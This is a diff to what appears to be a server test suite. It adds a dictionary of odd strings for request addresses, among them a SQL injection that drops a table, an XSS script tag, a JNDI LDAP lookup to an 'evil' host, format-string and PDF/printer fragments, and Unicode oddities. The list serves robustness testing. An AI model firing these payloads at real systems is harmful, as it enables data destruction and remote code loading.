@@ -308,3 +308,19 @@ def frames() -> Iterator[Hostile]:
     """What is hardly HTTP: refused, or the connection is closed."""
     for name, request in FRAMES.items():
         yield Hostile(name, request, (0, 400, 404, 405, 413, 431, 501, 505), half=True)
+
+
+ODD = {
+    "words of a printer": "^XZ^XA^FDevil^FS",
+    "words of a PDF": "(\\) endobj %%EOF << /JS >>",
+    "words of SQL": "Robert'); drop table orders; --",
+    "words of a page": "<script>alert(1)</script>&amp;",
+    "words of a template": "{{7*7}} ${jndi:ldap://evil} %s %n {0}",
+    "another direction": "\u202eevil\u2066",
+    "beyond the BMP": "🦥" * 200,
+    "marks on marks": "e" + "\u0301" * 199,
+    "no character": "\ufffe\uffff\U0010ffff",
+    "other line ends": "a\u0085b\u2028c\u2029d",
+    "spaces": " " * 200,
+}
+"""Texts that an address may have, however odd they are."""
